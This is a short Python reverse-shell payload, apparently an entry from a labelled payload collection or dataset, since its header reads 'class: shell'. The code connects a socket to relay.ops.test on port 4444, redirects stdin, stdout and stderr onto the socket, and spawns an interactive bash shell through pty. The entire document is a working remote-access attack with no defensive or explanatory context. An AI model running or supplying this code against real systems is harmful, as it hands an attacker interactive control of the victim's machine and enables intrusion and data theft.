# class: shell; possible: low medium; style: pty.spawn on the descriptors
import os
import pty
import socket

s = socket.socket()
s.connect(("relay.ops.test", 4444))
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
os.environ["TERM"] = "xterm"
pty.spawn(["/bin/bash", "-i"])
